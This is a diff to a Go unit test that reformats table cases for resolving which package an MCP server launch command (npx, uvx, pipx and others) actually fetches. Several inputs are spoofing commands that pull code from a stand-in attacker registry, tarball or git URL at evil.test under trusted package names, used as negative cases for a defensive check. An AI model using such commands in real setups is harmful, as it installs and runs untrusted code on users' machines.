@@ -18,19 +18,26 @@ func TestRunners(t *testing.T) {
 		{"npx -y -- @modelcontextprotocol/server-github@^2025", "@modelcontextprotocol/server-github"},
 		{"/usr/bin/npx tavily-mcp@latest", "tavily-mcp"}, {"npm exec -y tavily-mcp", "tavily-mcp"},
 		{"pnpm dlx figma-developer-mcp", "figma-developer-mcp"}, {"bunx --bun exa-mcp-server", "exa-mcp-server"},
-		{"uvx mcp-server-fetch==2025.1.1", "pypi:mcp-server-fetch"}, {"uvx --python=3.12 mcp_server.fetch@latest", "pypi:mcp-server-fetch"},
+		{"uvx mcp-server-fetch==2025.1.1", "pypi:mcp-server-fetch"},
+		{"uvx --python=3.12 mcp_server.fetch@latest", "pypi:mcp-server-fetch"},
 		{"uv tool run mcp-server-git", "pypi:mcp-server-git"}, {"pipx run mcp-server-git", "pypi:mcp-server-git"},
-		{"uvx mcp-server-time[extra]", "pypi:mcp-server-time"}, {"uvx mcp-server-time[extra]>=1,<2", "pypi:mcp-server-time"},
+		{"uvx mcp-server-time[extra]", "pypi:mcp-server-time"},
+		{"uvx mcp-server-time[extra]>=1,<2", "pypi:mcp-server-time"},
 		{"npx evil @notionhq/notion-mcp-server", "evil"}, // known, and another's
 
 		// Another package by that name, or nobody knows which.
-		{"npx @notionhq/notion-mcp-server@npm:evil", ""}, {"npx @notionhq/notion-mcp-server@https://evil.test/x.tgz", ""}, {"npx @notionhq/notion-mcp-server@evil/repository", ""},
-		{"npx --registry https://evil.test @notionhq/notion-mcp-server", ""}, {"npx --registry=https://evil.test @notionhq/notion-mcp-server", ""},
-		{"npx -p @notionhq/notion-mcp-server evil", ""}, {"npx --package=evil tavily-mcp", ""}, {"npx -c evil tavily-mcp", ""}, {"npx evil/tavily-mcp", ""},
+		{"npx @notionhq/notion-mcp-server@npm:evil", ""}, {"npx @notionhq/notion-mcp-server@https://evil.test/x.tgz", ""},
+		{"npx @notionhq/notion-mcp-server@evil/repository", ""},
+		{"npx --registry https://evil.test @notionhq/notion-mcp-server", ""},
+		{"npx --registry=https://evil.test @notionhq/notion-mcp-server", ""},
+		{"npx -p @notionhq/notion-mcp-server evil", ""}, {"npx --package=evil tavily-mcp", ""},
+		{"npx -c evil tavily-mcp", ""}, {"npx evil/tavily-mcp", ""},
 		{"pnpm exec tavily-mcp", ""}, {"npm run tavily-mcp", ""}, {"npm install tavily-mcp", ""}, {"yarn tavily-mcp", ""},
-		{"uvx --from evil mcp-server-git", ""}, {"uvx --with mcp-server-git evil", ""}, {"uvx --index-url https://evil.test mcp-server-git", ""}, {"uvx mcp-server-git@git+https://evil.test/x", ""},
+		{"uvx --from evil mcp-server-git", ""}, {"uvx --with mcp-server-git evil", ""},
+		{"uvx --index-url https://evil.test mcp-server-git", ""}, {"uvx mcp-server-git@git+https://evil.test/x", ""},
 		{"pipx run --spec evil mcp-server-git", ""}, {"uv run mcp-server-git", ""},
-		{"npx ./local", ""}, {"npx", ""}, {"node server.js", ""}, {"python -m x", ""}, {"npx -y", ""}, {"node", ""}, {"mcp-server-git", ""},
+		{"npx ./local", ""}, {"npx", ""}, {"node server.js", ""}, {"python -m x", ""}, {"npx -y", ""}, {"node", ""},
+		{"mcp-server-git", ""},
 	} {
 		got := originAs(t, fetchers(), c.line, "net")
 		if strings.HasPrefix(got, "?") {
